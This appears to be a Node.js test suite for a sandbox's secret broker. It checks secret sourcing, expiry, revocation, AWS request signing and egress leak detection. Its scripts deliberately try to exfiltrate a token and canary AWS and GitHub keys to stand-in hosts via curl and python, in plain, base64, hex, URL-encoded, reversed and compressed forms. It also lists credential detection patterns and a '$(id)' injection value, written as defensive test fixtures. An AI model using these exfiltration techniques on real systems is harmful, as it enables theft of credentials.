// Secrets of runs against real programs and servers: where they are read, how
// long they last, that they are taken back at once, and that neither they nor
// baits leave in any form.
import assert from 'node:assert';
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import zlib from 'node:zlib';

import { certificates, closeAll, listen, resolver } from './lib/outside.js';
import { docker, skip as noImage } from './lib/image.js';
import { isRoot, Place, until } from './lib/paddock.js';
import { descendants } from './lib/proc.js';

const place = new Place();
const folder = path.join(place.state, 'secrets');
const value = 'tk_live_0123456789abcdef';
const seen = []; // what the servers were asked
let dns, plain, tls, ca, slow;

before(async () => {
	const keys = path.join(place.dir, 'keys');
	const answer = (q, s) => {
		let body = '';

		q.setEncoding('latin1').on('data', (d) => {
			body += d;
		}).on('end', () => {
			seen.push({ method: q.method, url: q.url, headers: q.headers,
				body });
			if (q.url.startsWith('/slow'))
				slow = s; // answered by nobody
			else
				s.end(`${q.method} ${q.url}\n`);
		});
	};

	fs.mkdirSync(keys);
	fs.mkdirSync(path.join(folder, 'commands'), { recursive: true });
	ca = certificates(keys, ['api.test', 'other.test']);
	dns = await resolver();
	plain = await listen(http.createServer(answer));
	tls = await listen(https.createServer({
		key: fs.readFileSync(path.join(keys, 's.key')),
		cert: fs.readFileSync(path.join(keys, 's.pem')),
	}, answer));
	store('tickets.key', `${value}\n`);
});

after(closeAll);

function store(name, text, mode = 0o600) {
	const file = path.join(folder, name);

	fs.rmSync(file, { force: true });
	fs.writeFileSync(file, text, { mode });
}

const inject = { header: 'authorization', format: 'Bearer {}' };

function policy(secrets, changes = {}) {
	const local = { ca, addrs: ['127.0.0.1/32'] };

	return {
		policy: 1, workflow: 'secrets', tenant: 'a', actor: 'b', stage: 5,
		defaults: { by_risk: { external_write: 'allow' } }, tools: {},
		secrets,
		egress: { rules: [
			{ host: 'api.test', port: tls, proto: 'https',
				paths: ['/in/**', '/slow/**'], ...local,
				secrets: Object.keys(secrets).filter((k) =>
					!secrets[k].from.startsWith('canary:')) },
			{ host: 'api.test', port: tls, proto: 'https',
				paths: ['/out/**'], ...local },
			{ host: 'other.test', port: tls, proto: 'https', ...local },
			{ host: 'free.test', port: plain, proto: 'http',
				addrs: ['127.0.0.1/32'] },
			{ host: '*.wild.test', port: plain, proto: 'http',
				addrs: ['127.0.0.1/32'] },
		] },
		...changes,
	};
}

const tickets = { TICKETS: { from: 'file:tickets.key', env: 'TOKEN', inject } };
let n = 0;

function start(script, document, env = {}) {
	const file = path.join(place.dir, `policy${++n}.json`);
	const work = path.join(place.dir, `work${n}`);

	fs.writeFileSync(file, JSON.stringify(document));
	fs.mkdirSync(work);
	fs.chmodSync(work, 0o777);
	return place.command(['run', '--state', place.state, '--dir', work, file,
		'--', 'sh', '-c', `curl() { command curl -sS -m 20 "$@"; }\n${script}`],
	{ input: '', env: { ...process.env, ...env,
		PADDOCK_RESOLVER: `127.0.0.1:${dns}` } });
}

async function ran(script, document, env) {
	seen.length = 0;
	const r = await start(script, document, env).end();
	const run = r.err.match(/run (r-\w+)/)?.[1];
	const log = run && (await place.cli(['trace', 'show', run, '--json'])).out;

	return { ...r, run, log,
		records: (log ?? '').trim().split('\n').filter(Boolean)
			.flatMap((l) => JSON.parse(l)) };
}

function leaks(r) {
	return r.records.filter((e) => e.kind === 'egress.leak');
}

const forms = {
	plain: value,
	base64: Buffer.from(`key=${value}`).toString('base64'),
	'base64 of one byte more': Buffer.from(`xkey=${value}`).toString('base64'),
	hex: Buffer.from(value).toString('hex').toUpperCase(),
	url: [...value].map((c) => `%${c.charCodeAt(0).toString(16)}`).join(''),
	reversed: [...value].reverse().join(''),
	json: [...value].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`)
		.join(''),
};

describe('what must not go out', () => {
	// An agent that has found out a secret that no request of its own has.
	test('a secret is stopped in every form and place, also unasked', async () => {
		const api = `https://api.test:${tls}/out`;
		const free = `http://free.test:${plain}`;
		let script = `curl ${free}/first\n`;

		for (const text of Object.values(forms)) {
			fs.mkdirSync(path.join(place.dir, 'p'), { recursive: true });
			script += `curl -H 'X-Data: ${text}' ${api}/h\n` +
				`curl -d '{"a": "${text}"}' ${api}/b\n` +
				`curl -d '{"a": "${text}"}' ${free}/b\n` +
				`curl -H 'X-Data: ${text}' ${free}/h\n` +
				`curl '${free}/?q=${text}'\n`;
		}
		// Its rule limits nothing: it is opened all the same.
		script += `curl -d '${value}' https://other.test:${tls}/\n`;
		script += `curl --http1.1 -H '${value}: x' ${api}/n\n` +
			`curl ${free}/a/${value}/b\n` +
			`curl http://${value.replaceAll('_', '')}.wild.test:${plain}/\n`;
		const r = await ran(script, policy(tickets));

		assert.deepStrictEqual(seen.map((s) => s.url), ['/first'], r.out);
		assert.strictEqual(leaks(r).length, 5 * Object.keys(forms).length + 4,
			r.out + r.err);
		for (const e of leaks(r)) {
			assert.strictEqual(e.body.name, 'TICKETS');
			assert.strictEqual(e.body.kind, 'secret');
			assert.match(e.body.place,
				/^(header X-Data|header name|header x-data|body|path|query|host|target)$/);
		}
		// What is on record says it, and does not tell it; only the
		// command that this test gave does.
		const log = JSON.stringify(r.records.filter((e) =>
			e.kind !== 'run.opened'));

		for (const text of [value, forms.hex, forms.reversed, forms.base64])
			assert.ok(!log.includes(text));
		assert.deepStrictEqual([...new Set(leaks(r).map((e) => e.body.form))]
			.sort(), ['base64', 'hex', 'json', 'plain', 'url']);
	});

	test('a compressed body is searched, and what cannot be is refused',
		async () => {
			const work = path.join(place.dir, 'packed');

			fs.mkdirSync(work);
			const text = `${'x'.repeat(5000)}${value}`;
			const as = (b) => b.toString('base64');
			const send = (data, coding) =>
				`echo ${as(data)} | base64 -d | curl --data-binary @- ` +
				`-H 'Content-Encoding: ${coding}' ` +
				`http://free.test:${plain}/packed\n`;
			const r = await ran(send(zlib.gzipSync(text), 'gzip') +
				send(zlib.deflateSync(text), 'deflate') +
				send(zlib.brotliCompressSync(text), 'br') +
				send(zlib.gzipSync('nothing to see'), 'gzip') +
				send(Buffer.from('no gzip'), 'gzip'), policy(tickets));

			assert.strictEqual(leaks(r).length, 2, r.out);
			assert.match(r.out, /\\"br\\" cannot be searched/);
			assert.match(r.out, /not what its content encoding says/);
			assert.strictEqual(seen.filter((s) => s.headers[
				'content-encoding'] === 'gzip').length, 1);
			// Also what has another coding is sent on as it came.
			assert.strictEqual(zlib.gunzipSync(Buffer.from(seen.find((s) =>
				s.headers['content-encoding'] === 'gzip').body, 'latin1'))
				.toString(), 'nothing to see');
		});

	test('what looks like a credential is reported, and goes out', async () => {
		const jwt = ['{"alg":"HS256"}', '{"sub":"1234567890"}', 'signature of it']
			.map((t) => Buffer.from(t).toString('base64url')).join('.');
		const texts = {
			aws_key: `AKIA${'Q7'.repeat(8)}`, card: '4111 1111 1111 1111',
			github_token: `ghp_${'a1'.repeat(18)}`,
			iban: 'DE89370400440532013000', jwt,
			openai_key: `sk-${'Ab1'.repeat(10)}`,
			private_key: '-----BEGIN RSA PRIVATE KEY-----',
			slack_token: `xoxb-${'1a'.repeat(12)}`,
		};
		const api = `https://api.test:${tls}/out`;
		const free = `http://free.test:${plain}`;
		const body = JSON.stringify({ text: `x\n${
			Object.values(texts).join('\n')}` });
		const r = await ran(`curl -d '${body}' ${api}/b\n` +
			`curl -H 'X-Data: ${texts.jwt}' ${free}/h\n` +
			`curl -H '${texts.aws_key}: ${texts.aws_key}' ${free}/n\n` +
			`curl '${free}/?card=4111+1111+1111+1111&other=4111111111111112'\n` +
			"python3 -c \"print('x' * 70000, '4111-1111', '1111-1111', " +
			`'y' * 70000, sep='-')" | curl --data-binary @- ${free}/l\n` +
			`echo ${zlib.gzipSync(`iban=${texts.iban}`).toString('base64')} | ` +
			"base64 -d | curl --data-binary @- -H 'Content-Encoding: gzip' " +
			`${free}/z\n`, policy(tickets));

		assert.deepStrictEqual(seen.map((s) => s.url.split('?')[0]),
			['/out/b', '/h', '/n', '/', '/l', '/z'], r.out + r.err);
		assert.strictEqual(seen[0].body, body);
		assert.deepStrictEqual(leaks(r).map((e) =>
			[e.body.kind, e.body.name, e.body.place]), [
			...Object.keys(texts).map((k) => ['pattern', k, 'body']),
			['pattern', 'jwt', 'header X-Data'],
			['pattern', 'aws_key', 'header name'],
			['pattern', 'aws_key', 'header'],
			['pattern', 'card', 'target'],
			['pattern', 'card', 'body'], ['pattern', 'iban', 'body']]);
		const log = JSON.stringify(leaks(r));

		for (const text of Object.values(texts))
			assert.ok(!log.includes(text));
	});

	test('a bait looks like a credential, and is noticed', async () => {
		const document = policy({ ...tickets,
			AWS: { from: 'canary:aws', env: 'AWS_SECRET_ACCESS_KEY' },
			GITHUB: { from: 'canary:github', env: 'GITHUB_TOKEN' } });
		const r = await ran('echo "$GITHUB_TOKEN $AWS_SECRET_ACCESS_KEY"; ' +
			`curl -H "X: $(echo a$GITHUB_TOKEN | base64 -w0)" ` +
			`http://free.test:${plain}/x; ` +
			`python3 -c "import os, urllib.request as u; u.urlopen(` +
			`'http://free.test:${plain}/', ` +
			`os.environ['AWS_SECRET_ACCESS_KEY'].encode())"`, document);
		const [github, aws] = r.out.split('\n')[0].split(' ');

		assert.match(github, /^ghp_[A-Za-z0-9]{36}$/);
		assert.match(aws, /^[A-Za-z0-9]{40}$/);
		assert.deepStrictEqual(leaks(r).map((e) =>
			[e.body.name, e.body.place, e.body.form]), [
			['GITHUB', 'header X', 'base64'], ['AWS', 'body', 'plain']]);
		assert.strictEqual(seen.length, 0);
		assert.ok(!r.log.includes(github) && !r.log.includes(aws));
	});
});

describe('where secrets are read', () => {
	test('a variable that the operator has named, and no other', async () => {
		const at = (name) => policy({ X: { from: `env:${name}`, env: 'TOKEN',
			inject } });
		const script = `curl https://api.test:${tls}/in/x`;
		const env = { PADDOCK_SECRET_MINE: value, OTHER: value };
		let r = await ran(script, at('MINE'), env);

		assert.strictEqual(seen[0]?.headers.authorization, `Bearer ${value}`,
			r.out + r.err);
		r = await ran(script, at('OTHER'), env);
		assert.match(r.err, /started without \$PADDOCK_SECRET_OTHER/);
	});

	test('what a command of the operator prints', async () => {
		const at = (name) => policy({ X: { from: `command:${name}`, inject } });
		const script = `curl https://api.test:${tls}/in/x`;
		const helper = path.join(place.dir, 'helper.sh');

		fs.writeFileSync(helper, '#!/bin/sh\nset | grep -q PADDOCK && exit 9\n' +
			'ls /proc/self/fd | grep -qv "^[0-3]$" && exit 8\n' +
			'echo "$1$2"\n', { mode: 0o755 });
		store('commands/good', `${helper}\n${value.slice(0, 9)}\n${
			value.slice(9)}\n`);
		store('commands/shell', `${helper}\n$(id) ; echo\n`);
		store('commands/fails', '/bin/false\n');
		store('commands/large', '/usr/bin/yes\n');
		store('commands/relative', 'helper.sh\n');
		store('commands/open', `${helper}\n`);
		fs.chmodSync(path.join(folder, 'commands/open'), 0o666);
		let r = await ran(script, at('good'), { PADDOCK_SECRET_Q: 'q'.repeat(9) });

		assert.strictEqual(seen[0]?.headers.authorization, `Bearer ${value}`,
			r.out + r.err);
		r = await ran(script, at('shell'));
		assert.strictEqual(seen[0]?.headers.authorization,
			'Bearer $(id) ; echo', r.out + r.err);
		for (const [name, why] of [['fails', /status 1/],
			['large', /printed more than 16384 bytes/],
			['relative', /absolute path/], ['open', /written by others/],
			['missing', /No such file/]]) {
			r = await ran(script, at(name));
			assert.match(r.err, why);
			assert.strictEqual(seen.length, 0);
		}
	});

	test('programs find what stands for it in files of theirs', async () => {
		const r = await ran('stat -c "%a %U" ~/.netrc; cat ~/.conf/a/b.ini; ' +
			`curl -n https://api.test:${tls}/in/x; ` +
			`curl -H "X: $(cat ~/.aws)" http://free.test:${plain}/x`, policy({
			TICKETS: { from: 'file:tickets.key', inject: {
				header: 'authorization' }, file: '/tmp/.netrc',
			template: 'machine api.test login me password {}\n' },
			B: { from: 'file:tickets.key', inject, file: '/tmp/.conf/a/b.ini',
				template: '[x]\nkey = {} # {}\n', env: 'B' },
			AWS: { from: 'canary:hex', file: '/tmp/.aws' } }));

		assert.match(r.out, /^600 agent\n\[x\]\nkey = (pdk_\w{20}) # \1\n/, r.err);
		assert.strictEqual(seen.length, 1);
		assert.strictEqual(Buffer.from(seen[0].headers.authorization.slice(6),
			'base64').toString(), `me:${value}`);
		assert.deepStrictEqual(leaks(r).map((e) => e.body.name), ['AWS']);
	});

	test('a file where nothing can be written starts no sandbox', async () => {
		for (const [file, why] of [['/usr/x', /Read-only|Permission/],
			['/tmp/../etc/x', /absolute path inside/]]) {
			const r = await ran('echo ran', policy({ TICKETS: {
				...tickets.TICKETS, file } }));

			assert.match(r.err, why);
			assert.strictEqual(r.out, '');
		}
	});

	// What an image sets is its maker's idea, and is of another time.
	test('an image turns neither a placeholder nor what is trusted elsewhere',
		{ skip: noImage }, async () => {
			const { dir } = docker({ Env: ['PATH=/bin', 'TOKEN=dummy',
				'SSL_CERT_FILE=/other', 'JAVA_TOOL_OPTIONS=-Xmx64m',
				'OWN=stays'], User: '1000' },
			{ 'etc/passwd': 'u:x:1000:1000::/home/u:/bin/sh\n' });
			const r = await place.cli(['image', 'import', dir, '--name',
				'env:1', '--state', place.state]);

			assert.strictEqual(r.status, 0, r.err);
			const q = await ran('export -p; cat /etc/app/token /home/u/.k',
				policy({ TICKETS: { ...tickets.TICKETS,
					file: '/etc/app/token' },
				B: { ...tickets.TICKETS, env: 'B', file: '/home/u/.k' } },
				{ sandbox: { image: 'env:1' } }));
			const has = (name) => q.out.split('\n').filter((l) =>
				l.startsWith(`export ${name}=`)).map((l) =>
				l.slice(8 + name.length).replaceAll("'", ''));
			const [token] = has('TOKEN'), [b] = has('B');

			assert.match(token, /^pdk_\w{20}$/, q.out + q.err);
			assert.deepStrictEqual(has('TOKEN').length, 1);
			assert.deepStrictEqual(has('SSL_CERT_FILE'),
				['/run/paddock/trust/ca.pem']);
			assert.deepStrictEqual(has('JAVA_TOOL_OPTIONS'), ['-Xmx64m ' +
				'-Djavax.net.ssl.trustStore=/run/paddock/trust/cacerts']);
			assert.deepStrictEqual(has('OWN'), ['stays']);
			assert.ok(q.out.endsWith(token + b), q.out);
		});

	test('another workflow or stage opens no run', async () => {
		const r = await ran('echo ran', policy({ TICKETS: {
			...tickets.TICKETS, workflows: ['billing'], stages: [3, 4] } }));

		assert.match(r.err, /secrets\.TICKETS\.workflows: the secret is not for workflow "secrets"/);
		assert.match(r.err, /secrets\.TICKETS\.stages: the secret is not for stage 5/);
		assert.strictEqual(r.out, '');
	});
});

// The signature as AWS documents it, by itself: what the server would compute.
function awsSignature(q, secret) {
	const m = q.headers.authorization.match(
		/^AWS4-HMAC-SHA256 Credential=([^/]+)\/(\d+)\/([^/]+)\/([^/]+)\/aws4_request, ?SignedHeaders=([^,]+), ?Signature=(\w+)$/);
	const [, key, day, region, service, names, given] = m;
	const sha = (t) => crypto.createHash('sha256').update(t).digest('hex');
	const mac = (k, t) => crypto.createHmac('sha256', k).update(t).digest();
	const [where, query = ''] = q.url.split('?');
	const canonical = [q.method, where, query.split('&').sort().join('&'),
		...names.split(';').map((n) => `${n}:${q.headers[n].trim()}`), '',
		names, q.headers['x-amz-content-sha256'] ?? sha(q.body)].join('\n');
	const text = ['AWS4-HMAC-SHA256', q.headers['x-amz-date'],
		`${day}/${region}/${service}/aws4_request`, sha(canonical)].join('\n');
	const signing = [day, region, service, 'aws4_request'].reduce(mac,
		`AWS4${secret}`);

	return { key, given, wanted: mac(signing, text).toString('hex') };
}

test('a request for AWS arrives signed with the key that nobody inside has',
	async () => {
		const key = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';

		store('aws.key', `${key}\n`);
		const document = policy({ AWS: { from: 'file:aws.key',
			env: 'AWS_SECRET_ACCESS_KEY', inject: {
				sigv4: { access_key: 'AKIAREALKEY' } } } });
		const sign = '--aws-sigv4 aws:amz:eu-west-1:sqs ' +
			'-u "AKIAFAKEKEY:$AWS_SECRET_ACCESS_KEY" --http1.1';
		const r = await ran(`curl ${sign} -d 'Action=Send&Body=x' ` +
			`https://api.test:${tls}/in/queue; ` +
			`curl ${sign} 'https://api.test:${tls}/in/queue?Action=List&V=1'`,
		document);

		assert.strictEqual(seen.length, 2, r.out + r.err);
		for (const q of seen) {
			const s = awsSignature(q, key);

			assert.strictEqual(s.key, 'AKIAREALKEY');
			assert.strictEqual(s.given, s.wanted);
		}
		assert.match(r.log, /"secrets":\["AWS"\]/);
		assert.ok(!r.log.includes(key));
	});

describe('how long they last', () => {
	// Two seconds of a lease pass between the two requests.
	const script = `curl https://api.test:${'PORT'}/in/1; sleep 2.2; ` +
		'curl https://api.test:PORT/in/2';
	const twice = () => script.replaceAll('PORT', tls);

	test('one whose time is over is refused with a reason', async () => {
		const r = await ran(twice(), policy({ TICKETS: { ...tickets.TICKETS,
			ttl_s: 2 } }));

		assert.deepStrictEqual(seen.map((s) => s.url), ['/in/1'], r.out);
		assert.match(r.out, /"code":"secret_not_ready".*secret TICKETS has expired/);
	});

	test('or read anew, as the policy says', async () => {
		const command = path.join(place.dir, 'counter.sh');

		fs.writeFileSync(command, `#!/bin/sh\necho x >> ${place.dir}/count\n` +
			`echo "${value}$(wc -l < ${place.dir}/count)"\n`, { mode: 0o755 });
		store('commands/counter', `${command}\n`);
		const r = await ran(twice(), policy({ X: { from: 'command:counter',
			inject, ttl_s: 2, on_expiry: 'renew' } }));

		assert.deepStrictEqual(seen.map((s) => s.headers.authorization),
			[`Bearer ${value}1`, `Bearer ${value}2`], r.out + r.err);
	});

	test('one is a credential of the daemon, which others cannot read',
		async () => {
			const given = path.join(place.dir, 'credentials');
			const key = path.join(given, 'tickets');
			const one = policy({ X: { from: 'systemd:tickets', inject } });
			const ask = `curl https://api.test:${tls}/in/1`;

			fs.mkdirSync(given);
			fs.writeFileSync(key, `${value}\n`, { mode: 0o440 });
			const env = { CREDENTIALS_DIRECTORY: given };
			const r = await ran(ask, one, env);

			assert.deepStrictEqual(seen.map((s) => s.headers.authorization),
				[`Bearer ${value}`], r.out + r.err);
			assert.ok(!r.log.includes(value));
			fs.chmodSync(key, 0o444);
			assert.match((await ran(ask, one, env)).err,
				/tickets can be read by others: chmod 600 it/);
			fs.rmSync(key);
			assert.match((await ran(ask, one, env)).err,
				/tickets.*No such file/);
			assert.match((await ran(ask, one)).err,
				/has no \$CREDENTIALS_DIRECTORY/);
			assert.strictEqual(seen.length, 0);
		});

	test('a daemon shows, checks and revokes them, in runs that go on',
		async () => {
			const c = start(`curl https://api.test:${tls}/in/1; ` +
				`curl -m 30 https://api.test:${tls}/slow/1; ` +
				`curl https://api.test:${tls}/in/2; ` +
				`curl https://api.test:${tls}/out/3`, policy(tickets));

			seen.length = 0;
			slow = undefined;
			await until(() => slow, () => c.out + c.err);
			const cli = (...a) => place.cli(['secret', ...a, '--state',
				place.state]);
			const list = JSON.parse((await cli('ls', '--json')).out).secrets;

			assert.strictEqual(list.length, 1);
			assert.strictEqual(list[0].name, 'TICKETS');
			assert.strictEqual(list[0].from, 'file:tickets.key');
			assert.strictEqual(list[0].state, 'ready');
			assert.strictEqual(list[0].uses, 2);
			assert.match((await cli('ls')).out, /TICKETS +file:tickets\.key +ready +2/);
			assert.match((await cli('check', 'file:tickets.key')).out,
				/can be read \(token\)/);
			let bad = await cli('check', 'file:nothing');

			assert.match(bad.err, /No such file/);
			assert.strictEqual(bad.status, 1);
			bad = await cli('revoke', 'OTHER');
			assert.match(bad.err, /No open run has such a secret/);
			assert.match((await cli('revoke', 'file:tickets.key')).out,
				/TICKETS revoked in r-/);
			const r = await c.end();
			const log = (await place.cli(['trace', 'show',
				r.err.match(/run (r-\w+)/)[1], '--json'])).out;

			assert.deepStrictEqual(seen.map((s) => s.url),
				['/in/1', '/slow/1', '/out/3'], r.out + r.err);
			assert.match(r.out, /secret TICKETS was revoked/);
			assert.match(log, /"kind":"secret.revoked"/);
			assert.match(log, /a secret of it was revoked/);
			assert.ok(!log.includes(value));
		});
});

// How often the bytes are in what a process can write to.
function timesIn(pid, bytes) {
	const fd = fs.openSync(`/proc/${pid}/mem`, 'r');
	let found = 0;

	for (const line of fs.readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n')) {
		const m = line.match(/^([0-9a-f]+)-([0-9a-f]+) rw/);
		const from = m ? parseInt(m[1], 16) : 0;
		const size = m ? parseInt(m[2], 16) - from : 0;

		// A sanitizer's own map of memory has terabytes, and no copies.
		if (size === 0 || size > 2 ** 30)
			continue;
		const page = Buffer.alloc(size);
		let n = 0;

		try {
			n = fs.readSync(fd, page, 0, size, from);
		} catch {
			continue; // [vvar] and the like
		}
		for (let at = -1; (at = page.subarray(0, n).indexOf(bytes, at + 1)) >= 0;)
			found++;
	}
	fs.closeSync(fd);
	return found;
}

describe('where a value is', () => {
	// Docs name two places: the broker, and the supervisor for env:.
	test('only in locked memory of the broker, after it was used',
		{ skip: !isRoot && 'reads the memory of other users' }, async () => {
			const real = `sk_${crypto.randomUUID().replaceAll('-', '')}`;
			const other = `ev_${crypto.randomUUID().replaceAll('-', '')}`;

			store('used.key', `${real}\n`);
			const document = policy({
				USED: { from: 'file:used.key', env: 'TOKEN', inject: {
					header: 'authorization', body: true, query: 'k' } },
				ENV: { from: 'env:MEM', env: 'OTHER', inject: {
					header: 'x-other' } } });
			const c = start('for i in 1 2 3; do for p in --http1.1 --http2; do ' +
				'curl $p -H "Authorization: Bearer $TOKEN" ' +
				'-H "X-Other: $OTHER" -d "{$TOKEN}" ' +
				`"https://api.test:${tls}/in/a?k=$TOKEN"; done; done; ` +
				'echo used; sleep 60', document, { PADDOCK_SECRET_MEM: other });

			seen.length = 0;
			await until(() => c.out.includes('used'), () => c.out + c.err);
			assert.strictEqual(seen.length, 6, c.out);
			for (const s of seen) {
				assert.strictEqual(s.headers.authorization, `Bearer ${real}`);
				assert.strictEqual(s.headers['x-other'], other);
				assert.strictEqual(s.body, `{${real}}`);
				assert.strictEqual(s.url, `/in/a?k=${real}`);
			}
			const where = {};
			const pids = [c.child.pid, ...descendants(c.child.pid)
				.map((p) => p.pid ?? p)];

			assert.ok(pids.length >= 7, pids.join());
			for (const pid of pids) {
				const line = fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8');
				const role = line.match(/--role\0(\w+)/)?.[1] ??
					path.basename(line.split('\0')[0]);

				for (const text of [real, other]) {
					for (const form of [text,
						Buffer.from(text).toString('base64').slice(0, 40)]) {
						const n = timesIn(pid, Buffer.from(form));

						if (n > 0)
							where[`${role} ${text.slice(0, 2)}`] =
								(where[`${role} ${text.slice(0, 2)}`] ?? 0) + n;
					}
					assert.ok(!line.includes(text));
					assert.ok(!fs.readFileSync(`/proc/${pid}/environ`, 'latin1')
						.includes(text), `environment of ${role}`);
				}
			}
			assert.deepStrictEqual(where,
				{ 'broker sk': 1, 'broker ev': 1, 'supervisor ev': 1 });
			c.child.kill('SIGTERM');
			await c.end();
			// The trace, its blobs and whatever else is in the state.
			for (const f of fs.readdirSync(place.state, { recursive: true })) {
				const file = path.join(place.state, f);

				if (!fs.statSync(file).isFile() || f === 'secrets/used.key')
					continue;
				assert.ok(!fs.readFileSync(file).includes(real), f);
				assert.ok(!fs.readFileSync(file).includes(other), f);
			}
		});
});
